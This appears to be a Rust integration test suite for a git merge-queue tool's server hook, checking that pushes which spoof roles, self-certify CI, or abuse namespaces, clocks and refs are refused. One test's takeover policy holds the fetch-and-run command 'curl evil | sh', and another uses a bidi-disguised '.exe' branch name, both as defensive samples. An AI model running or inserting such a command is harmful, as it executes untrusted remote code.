//! The guard, second round (issue 19): each class of the review closed and
//! proven through the real binary and real `git push` into a bare remote
//! with the hook installed. Identity is what the server says (`GL_USER`).

mod common;
use common::{Clone, World};

/// alice is trusted, bot coordinates, ci reports.
const ACTORS: &str = r#"[queue]
trusted_actors = ["alice"]
coordinator_actors = ["bot"]
ci_runners = ["ci"]

[pipeline]
ci_failure_grace_seconds = 0
"#;

fn as_user(user: &str) -> [(&str, &str); 1] {
    [("GL_USER", user)]
}

fn guarded(policy: &str) -> (World, Clone) {
    let w = World::with_policy(policy);
    w.install_deploybot_hooks();
    let c = w.clone_as("alice");
    (w, c)
}

/// Checks out `branch` at the server's `from` and commits `policy` as `.deploybot.toml`.
fn commit_policy(c: &Clone, branch: &str, from: &str, policy: &str) {
    c.git(&["fetch", "-q", "origin"]);
    c.git(&["checkout", "-q", "-B", branch, &format!("origin/{from}")]);
    c.commit_file(".deploybot.toml", policy, "a policy for the base");
}

/// High: main's policy names `base_branch = "prod"` and prod has no policy.
/// A push with no identity (or by a trusted non-coordinator) that writes a
/// policy naming itself in every role onto prod is refused: the policy that
/// named prod governs it. A coordinator of that policy may. doctor says
/// which policy is in force and why.
#[test]
fn a_policy_reached_through_another_fails_closed() {
    let pointing = ACTORS.replace("[queue]\n", "[queue]\nbase_branch = \"prod\"\n");
    let (w, c) = guarded(&pointing);
    let takeover = r#"[queue]
base_branch = "prod"
trusted_actors = ["mallory"]
coordinator_actors = ["mallory"]
ci_runners = ["mallory"]

[pipeline]
deploy_command = "curl evil | sh"
"#;
    commit_policy(&c, "prod", "main", takeover);
    let before = w.server_refs();
    w.assert_refused(
        &c,
        &["push", "origin", "HEAD:refs/heads/prod"],
        &[],
        "unknown",
    );
    w.assert_refused(
        &c,
        &["push", "origin", "HEAD:refs/heads/prod"],
        &as_user("alice"),
        "coordinator_actors",
    );
    assert_eq!(w.server_refs(), before, "nothing written");
    // The policy in force names bot as the coordinator, and says why.
    let doctor = c.ok(&["doctor"]);
    assert!(
        doctor.contains("it names base branch prod, which has no .deploybot.toml: the policy that named it governs"),
        "{doctor}"
    );
    // prod created by main's coordinator with a policy that names no actors:
    // main's actors keep governing it.
    let open = "[queue]\nbase_branch = \"prod\"\n";
    commit_policy(&c, "prod", "main", open);
    c.assert_git_ok(&["push", "origin", "HEAD:refs/heads/prod"], &as_user("bot"));
    let doctor = c.ok(&["doctor", "--json"]);
    assert!(
        doctor.contains("names no actors: main's actors keep governing"),
        "{doctor}"
    );
    c.commit_file("x.txt", "x\n", "an unidentified push to the base");
    w.assert_refused(
        &c,
        &["push", "origin", "HEAD:refs/heads/prod"],
        &[],
        "unknown",
    );
    commit_policy(&c, "prod", "prod", takeover);
    w.assert_refused(
        &c,
        &["push", "origin", "HEAD:refs/heads/prod"],
        &as_user("alice"),
        "coordinator_actors",
    );
    // Changing main's own file (the root, which could point elsewhere)
    // still needs main's coordinator.
    c.git(&["checkout", "-q", "-B", "main", "origin/main"]);
    c.commit_file(
        ".deploybot.toml",
        &pointing.replace("prod", "qa"),
        "repoint",
    );
    w.assert_refused(
        &c,
        &["push", "origin", "main"],
        &as_user("alice"),
        "coordinator_actors",
    );
}

/// High: a broken policy whose coordinator list is spelled in a way a
/// one-line reader misses (a multi-line array here) names its coordinators
/// all the same; and one whose coordinators cannot be read at all falls back
/// to the last readable policy's, never to "anyone".
#[test]
fn a_broken_policy_fails_closed_in_every_spelling() {
    for broken in [
        // A multi-line list in a file broken elsewhere.
        "[queue]\ncoordinator_actors = [\n  \"bot\",\n]\ntrusted_actors = [\"alice\"]\n[queue.typo\n",
        // Unreadable: the list itself is broken.
        "[queue]\ncoordinator_actors = [\"bot\"\ntrusted_actors = [\"alice\"]\n",
    ] {
        let (w, c) = guarded(ACTORS);
        let admin = w.clone_as("admin");
        admin.commit_file(".deploybot.toml", broken, "broken policy");
        // Past the hook, as an admin on the server would.
        w.push_past_the_hook(&admin, &["push", "-q", "origin", "main"]);
        c.git(&["pull", "-q", "origin", "main"]);
        c.commit_file(".deploybot.toml", ACTORS, "repair the policy");
        w.assert_refused(
            &c,
            &["push", "origin", "main"],
            &[],
            "only a coordinator (bot)",
        );
        w.assert_refused(
            &c,
            &["push", "origin", "main"],
            &as_user("alice"),
            "only a coordinator (bot)",
        );
        c.assert_git_ok(&["push", "origin", "main"], &as_user("bot"));
    }
}

/// Medium: the base branch is a symbolic ref on the server (main points to
/// trunk). Its target is judged as the base branch: frozen while paused.
#[test]
fn a_base_branch_reached_through_a_symbolic_ref_is_guarded() {
    let (w, c) = guarded(ACTORS);
    let main = w.server_ref("refs/heads/main").expect("main");
    w.server_git(&["update-ref", "refs/heads/trunk", &main]);
    w.server_git(&["symbolic-ref", "refs/heads/main", "refs/heads/trunk"]);
    c.ok_as("alice", &["pause", "--reason", "freeze", "--sha", &main]);
    c.git(&["fetch", "-q", "origin"]);
    c.git(&["checkout", "-q", "-B", "t", "origin/trunk"]);
    c.commit_file("t.txt", "t\n", "past the freeze through the target");
    w.assert_refused(
        &c,
        &["push", "origin", "HEAD:refs/heads/trunk"],
        &as_user("alice"),
        "paused",
    );
    // A ledger reached through a symbolic ref is the ledger.
    w.server_git(&["update-ref", "refs/heads/ledger-copy", &main]);
    w.server_git(&[
        "symbolic-ref",
        "refs/deploybot/queue",
        "refs/heads/ledger-copy",
    ]);
    w.assert_refused(
        &c,
        &["push", "origin", "HEAD:refs/heads/ledger-copy"],
        &as_user("alice"),
        "deploybot: refs/heads/ledger-copy",
    );
}

/// Medium: with `require_tested_base`, only a CI runner certifies a commit:
/// a coordinator's own success note, pushed with its merge or before it,
/// is refused, and main does not move.
#[test]
fn a_coordinator_cannot_certify_its_own_merge() {
    let policy = format!("{ACTORS}\n[hook]\nprotect_base = true\nrequire_tested_base = true\n");
    let (w, c) = guarded(&policy);
    let bot = w.clone_as("bot");
    bot.git(&["config", "deploybot.actor", "bot"]);
    bot.commit_file("untested.txt", "x\n", "an untested change");
    let sha = bot.git(&["rev-parse", "HEAD"]);
    bot.git(&[
        "notes",
        "--ref=deploybot/ci",
        "add",
        "-m",
        r#"{"check":"CI","status":"success","at":"2026-12-01T00:00:00Z"}"#,
        &sha,
    ]);
    let before = w.server_refs();
    w.assert_refused(
        &bot,
        &[
            "push",
            "--atomic",
            "origin",
            "main",
            "refs/notes/deploybot/ci",
        ],
        &as_user("bot"),
        "`bot` may not write CI success results (only queue.ci_runners may)",
    );
    assert_eq!(w.server_refs(), before);
    // Two steps: the commit on a plain branch, then the note alone.
    bot.assert_git_ok(
        &["push", "origin", "HEAD:refs/heads/feature/u"],
        &as_user("bot"),
    );
    w.assert_refused(
        &bot,
        &["push", "origin", "refs/notes/deploybot/ci"],
        &as_user("bot"),
        "may not write CI success results",
    );
    // The runner's success certifies it; then the coordinator may land it.
    bot.assert_git_ok(
        &["push", "origin", "refs/notes/deploybot/ci"],
        &as_user("ci"),
    );
    bot.assert_git_ok(&["push", "origin", "main"], &as_user("bot"));
    let _ = c;
}

/// Medium: the tool's namespaces belong to the tool's roles, in any letter
/// case: a plain `deploybot` branch (which would block every
/// `deploybot/...` branch), `deploybot/try`, `deploybot/repair`, another
/// case of them, even with no identity at all.
#[test]
fn the_tools_names_are_reserved_in_any_letter_case() {
    let (w, c) = guarded(ACTORS);
    for name in [
        "refs/heads/deploybot",
        "refs/heads/deploybot/try",
        "refs/heads/deploybot/repair",
        "refs/heads/DeployBot/try/x",
        "refs/heads/deploybot/repair/not-a-sha",
        "refs/notes/DEPLOYBOT/ci",
    ] {
        for env in [&[][..], &as_user("alice")[..], &as_user("bot")[..]] {
            w.assert_refused(
                &c,
                &["push", "origin", &format!("HEAD:{name}")],
                env,
                "deploybot's namespace",
            );
        }
    }
    // A reserved name that got there (an older server) is a coordinator's to clear.
    let main = w.server_ref("refs/heads/main").expect("main");
    w.server_git(&["update-ref", "refs/heads/Deploybot", &main]);
    w.assert_refused(
        &c,
        &["push", "origin", ":refs/heads/Deploybot"],
        &as_user("alice"),
        "coordinator_actors",
    );
    c.assert_git_ok(
        &["push", "origin", ":refs/heads/Deploybot"],
        &as_user("bot"),
    );
    // Names that only look alike are not the tool's.
    c.assert_git_ok(&["push", "origin", "HEAD:refs/heads/deploybot-docs"], &[]);
}

fn line(check: &str, status: &str, at: &str) -> String {
    format!(r#"{{"check":"{check}","status":"{status}","at":"{at}"}}"#)
}

/// Appends one raw result line with plain git and pushes the notes ref,
/// as `user`; returns the push's output.
fn plain_note(c: &Clone, sha: &str, json: &str, user: &str) -> std::process::Output {
    let notes = "refs/notes/deploybot/ci";
    let _ = c.try_git(&["fetch", "-q", "origin", &format!("+{notes}:{notes}")]);
    c.git(&["notes", "--ref=deploybot/ci", "append", "-m", json, sha]);
    c.git_env(&["push", "origin", notes], &as_user(user))
}

/// `YYYY-MM-DDTHH:MM:SSZ` `offset` seconds from now (negative: ago).
fn rfc3339_in(offset: i64) -> String {
    let out = std::process::Command::new("date")
        .args([
            "-u",
            "-d",
            &format!("{offset} seconds"),
            "+%Y-%m-%dT%H:%M:%SZ",
        ])
        .output()
        .expect("date runs");
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// Medium, time: the server's clock bounds the writers'. A result dated an
/// hour ahead is refused by the hook; read without the hook, it is no
/// evidence yet, so a later failure decides (it used to outrank it).
#[test]
fn a_result_from_a_clock_that_ran_ahead_decides_nothing() {
    let (w, c) = guarded(ACTORS);
    let main = w.server_ref("refs/heads/main").expect("main");
    let ahead = plain_note(&c, &main, &line("CI", "success", &rfc3339_in(3600)), "ci");
    assert!(!ahead.status.success());
    let stderr = String::from_utf8_lossy(&ahead.stderr);
    assert!(
        stderr.contains("is ahead of the server's clock"),
        "{stderr}"
    );
    // A world without the hook: the reader's own clock bounds the writer's.
    let w = World::with_policy("[pipeline]\nci_failure_grace_seconds = 0\n");
    let c = w.clone_as("dev");
    let main = w.server_ref("refs/heads/main").expect("main");
    let skewed = plain_note(&c, &main, &line("CI", "success", &rfc3339_in(3600)), "ci");
    assert!(skewed.status.success());
    let later = plain_note(&c, &main, &line("CI", "failure", &rfc3339_in(-5)), "ci");
    assert!(later.status.success());
    assert_eq!(c.status()["main"]["release"]["state"], "ci-failed");
}

/// Medium, time: a request dated in year 9999 (a broken clock, written
/// without the hook) never makes a negative wait; a grace of i64::MAX is
/// refused when the policy is read instead of reading as 1970.
#[test]
fn extreme_times_make_no_negative_waits_and_no_1970() {
    let w = World::with_policy("[pipeline]\nci_failure_grace_seconds = 0\n");
    let dev = w.clone_as("dev");
    let head = dev.push_branch("feature/a", "a.txt", "a\n");
    dev.report_ci(&head, "success");
    let record = format!(
        r#"{{"schema":1,"action":"request","branch":"feature/a","head_sha":"{head}","actor":"dev","at":"9999-01-01T00:00:00Z"}}"#
    );
    let blob = w.server_git_stdin(&["hash-object", "-w", "--stdin"], &record);
    let tree = w.server_git_stdin(&["mktree"], &format!("100644 blob {blob}\trecord.json\n"));
    let commit = w.server_git(&["commit-tree", &tree, "-m", "request: feature/a"]);
    w.server_git(&["update-ref", "refs/deploybot/queue", &commit]);
    dev.react();
    let stats: serde_json::Value =
        serde_json::from_str(&dev.ok(&["stats", "--json"])).expect("json");
    let wait = &stats["queue_wait_seconds"]["p50"];
    assert!(wait.as_i64().is_some_and(|w| w >= 0), "{stats}");
    // A grace past what clocks can add is refused where the policy is read.
    let w = World::with_policy(&format!(
        "[pipeline]\nci_failure_grace_seconds = {}\n",
        i64::MAX
    ));
    let c = w.clone_as("dev");
    let out = c.run(&["status"]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("ci_failure_grace_seconds"), "{stderr}");
}

/// Low: a lock file a killed push left on the server is named at once, with
/// the file to remove, instead of ~22 s of "contention"; doctor names it too.
#[test]
fn a_stale_lock_is_named_at_once_and_doctor_sees_it() {
    let w = World::new();
    let c = w.clone_as("alice");
    c.ok(&["pause", "--reason", "first"]);
    let lock = w.server.join("refs/deploybot/control.lock");
    std::fs::write(&lock, "").expect("lock");
    let touched = std::process::Command::new("touch")
        .args(["-d", "2 minutes ago"])
        .arg(&lock)
        .status()
        .expect("touch");
    assert!(touched.success());
    let before = w.server_refs();
    let started = std::time::Instant::now();
    let out = c.run(&["pause", "--reason", "second"]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("control.lock") && stderr.contains("rm '"),
        "{stderr}"
    );
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "said at once, not after the contention retries"
    );
    assert_eq!(w.server_refs(), before, "nothing written");
    let doctor = String::from_utf8_lossy(&c.run(&["doctor"]).stdout).into_owned();
    assert!(
        doctor.contains("ref locks left by a killed git process"),
        "{doctor}"
    );
}

/// Low: a receipt sits on the head it names, once per merge.
#[test]
fn a_second_or_misplaced_receipt_is_refused() {
    let (w, c) = guarded("");
    let main = w.server_ref("refs/heads/main").expect("main");
    let receipt = |head: &str, merge: &str| {
        format!(
            r#"{{"branch":"feature/a","head_sha":"{head}","merge_sha":"{merge}","verified_sha":"{merge}","requested_at":null,"merged_at":"2026-12-01T00:00:00Z","verified_at":"2026-12-01T00:00:00Z"}}"#
        )
    };
    let notes = "refs/notes/deploybot/receipts";
    let append = |sha: &str, line: &str| {
        c.git(&[
            "notes",
            "--ref=deploybot/receipts",
            "append",
            "-m",
            line,
            sha,
        ]);
    };
    let other = "1".repeat(40);
    append(&main, &receipt(&other, &main));
    w.assert_refused(
        &c,
        &["push", "origin", notes],
        &[],
        "a receipt goes on the head it names",
    );
    c.git(&["update-ref", "-d", notes]);
    append(&main, &receipt(&main, &main));
    c.assert_git_ok(&["push", "origin", notes], &[]);
    append(&main, &receipt(&main, &main));
    w.assert_refused(&c, &["push", "origin", notes], &[], "a second receipt");
}

/// Low: `react` counts a landed candidate's entries once.
#[test]
fn react_says_merged_two_for_two_entries() {
    let w = World::with_policy(
        "[queue]\nlanding = \"tested\"\nspeculation_depth = 1\n\n[pipeline]\nci_failure_grace_seconds = 0\n",
    );
    let dev = w.clone_as("dev");
    dev.push_green_request("feature/a", "a.txt");
    dev.push_green_request("feature/b", "b.txt");
    let built = dev.react();
    let sha = built["built"][0]["sha"]
        .as_str()
        .expect("a candidate")
        .to_string();
    assert_eq!(
        built["built"][0]["entries"].as_array().map(Vec::len),
        Some(2)
    );
    dev.report_ci(&sha, "success");
    let text = dev.ok(&["react"]);
    assert!(text.contains(", merged 2"), "{text}");
}

/// Low: bidirectional controls in a branch name are refused where names
/// come in, and escaped where a foreign record shows one.
#[test]
fn bidi_controls_in_branch_names_are_refused_and_never_printed_raw() {
    let w = World::new();
    let c = w.clone_as("alice");
    let out = c.run(&["request", "feature/\u{202e}gpj.exe"]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("bidirectional"), "{stderr}");
    assert!(!stderr.contains('\u{202e}'), "printed escaped: {stderr}");
}

/// Low: a ref name that is not UTF-8 is judged as the ref it is (here:
/// unrelated, accepted; under the tool's namespace, refused), not a reason
/// to refuse the whole push.
#[test]
fn a_ref_name_that_is_not_utf8_is_judged_alone() {
    use std::os::unix::ffi::OsStrExt;
    let (w, c) = guarded(ACTORS);
    let push = |name: &[u8]| {
        let mut spec = b"HEAD:".to_vec();
        spec.extend_from_slice(name);
        std::process::Command::new("git")
            .current_dir(&c.path)
            .env("HOME", w.home())
            .args(["push", "origin"])
            .arg(std::ffi::OsStr::from_bytes(&spec))
            .output()
            .expect("git runs")
    };
    let plain = push(b"refs/heads/caf\xe9");
    assert!(
        plain.status.success(),
        "{}",
        String::from_utf8_lossy(&plain.stderr)
    );
    let ours = push(b"refs/heads/deploybot/\xff");
    assert!(!ours.status.success());
    let stderr = String::from_utf8_lossy(&ours.stderr);
    assert!(stderr.contains("deploybot's namespace"), "{stderr}");
}

/// Low: `pause --sha` with 40 hex digits that name no commit is bad input.
#[test]
fn pause_needs_a_sha_that_names_a_commit() {
    let w = World::new();
    let c = w.clone_as("alice");
    let before = w.server_refs();
    let out = c.run(&["pause", "--reason", "x", "--sha", &"ab".repeat(20)]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("names no commit"), "{stderr}");
    assert_eq!(w.server_refs(), before);
}

/// Low: a ledger commit carrying a 20 MB extra file is refused.
#[test]
fn a_ledger_commit_with_a_huge_extra_file_is_refused() {
    let (w, c) = guarded("");
    c.ok(&["pause", "--reason", "x"]);
    c.git(&[
        "fetch",
        "-q",
        "origin",
        "+refs/deploybot/control:refs/deploybot/control",
    ]);
    let big = c.path.join("big.bin");
    std::fs::write(&big, vec![b'x'; 20 * 1024 * 1024]).expect("big file");
    let big_blob = c.git(&["hash-object", "-w", big.to_str().expect("path")]);
    let tip = c.git(&["rev-parse", "refs/deploybot/control"]);
    let record = c.git(&["rev-parse", &format!("{tip}:record.json")]);
    let tree = c.git_stdin(
        &["mktree"],
        &format!("100644 blob {big_blob}\tbig.bin\n100644 blob {record}\trecord.json\n"),
    );
    let commit = c.git(&["commit-tree", &tree, "-p", &tip, "-m", "pause: x"]);
    w.assert_refused(
        &c,
        &[
            "push",
            "origin",
            &format!("{commit}:refs/deploybot/control"),
        ],
        &[],
        "big.bin",
    );
}

/// Low: a policy that names actors and no identity variable is refused
/// where it is read (it would refuse every push).
#[test]
fn actors_without_identity_variables_are_a_policy_error() {
    let w = World::with_policy(&format!("{ACTORS}\n[hook]\nidentity_env = []\n"));
    let c = w.clone_as("alice");
    let out = c.run(&["status"]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("identity_env"), "{stderr}");
}

/// Low: a ledger rewound on the server (past the hook) is said by status
/// and doctor instead of being followed without a word.
#[test]
fn a_rewound_ledger_is_said_out_loud() {
    let w = World::new();
    let c = w.clone_as("alice");
    c.ok(&["pause", "--reason", "one"]);
    let first = w.server_ref("refs/deploybot/control").expect("ledger");
    let (id, sha) = c.pause_ids();
    c.ok(&["unpause", "--sha", &sha, "--control-id", &id, "--no-wake"]);
    assert!(c.status()["problems"].as_array().expect("list").is_empty());
    c.ok(&["doctor"]);
    w.server_git(&["update-ref", "refs/deploybot/control", &first]);
    let s = c.status();
    let problems = s["problems"].to_string();
    assert!(problems.contains("was rewound"), "{s}");
    let doctor = String::from_utf8_lossy(&c.run(&["doctor"]).stdout).into_owned();
    assert!(doctor.contains("was rewound"), "{doctor}");
}
